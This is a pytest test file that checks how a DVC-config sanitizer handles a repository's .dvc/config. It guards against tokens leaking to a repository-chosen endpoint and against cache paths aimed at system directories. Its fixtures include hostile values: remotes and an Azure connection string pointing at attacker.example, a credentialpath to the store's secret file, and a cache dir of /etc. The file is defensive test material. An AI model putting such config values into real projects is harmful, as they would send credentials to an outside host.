"""A source repository's `.dvc/config` is input: only remotes survive, credentials come from the snapshot's
own per-remote Secrets (or the store's, for the store itself), never from what the repository says."""

from __future__ import annotations

from pathlib import Path

import pytest
from configobj import ConfigObj

from terrasnap.engine import dvc
from terrasnap.engine.dvcsource import CREDENTIALS_ENV, sanitize_config
from terrasnap.engine.store import Store

HOSTILE = """[core]
    remote = storage
    site_cache_dir = /tmp/elsewhere
['remote "storage"']
    url = gs://team-bucket/dvc
    endpointurl = https://attacker.example
    credentialpath = /var/run/secrets/terrasnap/store/credentials.json
['remote "store"']
    url = gs://acme-geo/dvc/
    endpointurl = https://attacker.example
['remote "s3"']
    url = s3://elsewhere/dvc
['remote "local"']
    url = ../../shared-remote
[cache]
    dir = /etc
    type = symlink
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "checkout"
    (root / ".dvc" / "cache").mkdir(parents=True)
    (root / ".dvc" / "config").write_text(HOSTILE)
    (root / ".dvc" / "config.local").write_text("[core]\n    remote = s3\n")
    return root


def test_only_remote_urls_and_endpoints_survive_and_credentials_are_per_remote(
        project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    creds = tmp_path / "dvc-remotes"
    (creds / "storage").mkdir(parents=True)
    (creds / "storage" / "credentials.json").write_text("{}")
    monkeypatch.setenv(CREDENTIALS_ENV, str(creds))
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", "/var/run/secrets/terrasnap/store/credentials.json")
    store = Store.from_url("gs://acme-geo/dvc", "http://127.0.0.1:4443")  # an emulator: no login
    remotes = sanitize_config(project, store, tmp_path / "work")
    conf = ConfigObj(str(project / ".dvc" / "config"))
    # the namespace's key for "storage" would become a bearer token sent to the repository's endpoint:
    # refused (an error only if an output needs that remote), never configured
    assert remotes.default == "storage" and set(remotes.refused) == {"storage"}
    assert "sent only to the provider's own endpoint" in remotes.refused["storage"]
    assert 'remote "storage"' not in conf
    # the store itself: the store's endpoint (and credentials), never the repository's
    assert dict(conf['remote "store"']) == {
        "url": "gs://acme-geo/dvc/", "endpointurl": "http://127.0.0.1:4443", "allow_anonymous_login": "true"}
    assert dict(conf['remote "local"']) == {"url": str(tmp_path / "shared-remote")}
    assert dict(conf['remote "s3"']) == {"url": "s3://elsewhere/dvc"}  # no credentials of its own: none
    assert dict(conf["cache"]) == {"dir": str(dvc.cache_dir(tmp_path / "work"))}
    assert "site_cache_dir" not in conf["core"] and conf["core"]["no_scm"] == "True"
    assert not (project / ".dvc" / "config.local").exists() and not (project / ".dvc" / "cache").exists()


def test_a_remote_with_credentials_keeps_the_providers_endpoint_or_the_stores(
        project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    creds = tmp_path / "dvc-remotes"
    (creds / "storage").mkdir(parents=True)
    (creds / "storage" / "credentials.json").write_text("{}")
    monkeypatch.setenv(CREDENTIALS_ENV, str(creds))
    (project / ".dvc" / "config").write_text(HOSTILE.replace("https://attacker.example", "http://127.0.0.1:4443"))
    remotes = sanitize_config(project, Store.from_url("gs://acme-geo/dvc", "http://127.0.0.1:4443"), tmp_path / "w")
    conf = ConfigObj(str(project / ".dvc" / "config"))
    assert "storage" not in remotes.refused and remotes.refused == {}
    assert dict(conf['remote "storage"']) == {
        "url": "gs://team-bucket/dvc", "endpointurl": "http://127.0.0.1:4443",
        "credentialpath": str(creds / "storage" / "credentials.json")}  # its own Secret, not the store's


def test_without_a_secret_a_remote_gets_no_credentials(project: Path, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(CREDENTIALS_ENV, raising=False)
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", "/var/run/secrets/terrasnap/store/credentials.json")
    sanitize_config(project, Store.from_url(f"file://{tmp_path / 'store'}"), tmp_path / "work")
    conf = ConfigObj(str(project / ".dvc" / "config"))
    assert "credentialpath" not in conf['remote "storage"'] and "credentialpath" not in conf['remote "store"']


def test_an_unreadable_config_is_a_usage_error(project: Path, tmp_path: Path) -> None:
    from terrasnap.engine.errors import UsageError

    (project / ".dvc" / "config").write_text("[core\nremote = = x\n[[[")
    with pytest.raises(UsageError, match="not a readable DVC config"):
        sanitize_config(project, None, tmp_path / "work")


AZURE = """[core]
    remote = team
['remote "team"']
    url = azure://team-data/dvc
    account_name = teamacct
    connection_string = DefaultEndpointsProtocol=https;AccountName=x;AccountKey=y;BlobEndpoint=https://attacker.example
    account_key = repository-key
['remote "store"']
    url = azure://acme-geo/dvc
    account_name = elsewhere
['remote "public"']
    url = azure://open-data/dvc
    account_name = opendata
    allow_anonymous_login = true
"""


def test_azure_remotes_keep_url_and_account_and_their_logins_stay_in_memory(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = tmp_path / "checkout"
    (project / ".dvc").mkdir(parents=True)
    (project / ".dvc" / "config").write_text(AZURE)
    creds = tmp_path / "dvc-remotes"
    (creds / "team").mkdir(parents=True)
    (creds / "team" / "credentials.json").write_text("the-namespace-key\n")
    monkeypatch.setenv(CREDENTIALS_ENV, str(creds))
    store_login = "DefaultEndpointsProtocol=http;AccountName=devstoreaccount1;AccountKey=k=="
    monkeypatch.setenv("AZURE_STORAGE_CONNECTION_STRING", store_login)
    store = Store.from_url("azure://acme-geo/dvc", "http://127.0.0.1:10000/devstoreaccount1")
    remotes = sanitize_config(project, store, tmp_path / "work")
    written = (project / ".dvc" / "config").read_text()
    conf = ConfigObj(str(project / ".dvc" / "config"))
    assert remotes.refused == {}
    # what the repository says about logins is dropped: its connection string would choose the endpoint
    assert dict(conf['remote "team"']) == {"url": "azure://team-data/dvc", "account_name": "teamacct"}
    assert dict(conf['remote "store"']) == {"url": "azure://acme-geo/dvc"}
    assert dict(conf['remote "public"']) == {"url": "azure://open-data/dvc", "account_name": "opendata",
                                            "allow_anonymous_login": "true"}
    # the namespace's key for "team", the store's own login for the store: in memory, never on disk
    assert remotes.logins["team"] == {"account_key": "the-namespace-key"}
    assert "127.0.0.1:10000/devstoreaccount1" in remotes.logins["store"]["connection_string"]
    assert "public" not in remotes.logins
    assert "the-namespace-key" not in written and "AccountKey" not in written and "repository-key" not in written


def test_an_azure_key_without_an_account_name_is_refused_with_the_reason(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = tmp_path / "checkout"
    (project / ".dvc").mkdir(parents=True)
    (project / ".dvc" / "config").write_text("['remote \"team\"']\n    url = azure://team-data/dvc\n")
    creds = tmp_path / "dvc-remotes"
    (creds / "team").mkdir(parents=True)
    (creds / "team" / "credentials.json").write_text("a-bare-key")
    monkeypatch.setenv(CREDENTIALS_ENV, str(creds))
    remotes = sanitize_config(project, None, tmp_path / "work")
    assert "account key, and its config names no account_name" in remotes.refused["team"]
